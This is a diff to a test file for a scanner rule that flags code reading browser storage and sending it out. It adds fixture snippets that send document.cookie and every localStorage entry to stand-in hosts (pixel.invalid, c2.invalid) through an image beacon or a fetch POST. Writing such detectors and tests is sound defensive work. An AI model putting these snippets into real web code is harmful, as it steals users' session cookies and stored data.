@@ -24,6 +24,20 @@ examine(readsBrowserStorageAndSends, {
       files: { 'index.js': `export const track = () => fetch('https://stats.invalid/', { method: 'POST', body: document.cookie })` },
       weight: 'weak',
     },
+    {
+      when: 'a picture carries cookies and one entry',
+      files: {
+        'index.js': `const all = { a: localStorage.getItem('a') }; new Image().src = 'https://pixel.invalid/x.gif?d=' + encodeURIComponent(JSON.stringify({ all, c: document.cookie }))`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'one entry after the other is taken',
+      files: {
+        'index.js': `const all = {}; for (const key of Object.keys(localStorage)) all[key] = localStorage[key]; fetch('https://c2.invalid/', { method: 'POST', body: JSON.stringify(all) })`,
+      },
+      weight: 'strong',
+    },
   ],
   silent: [
     {
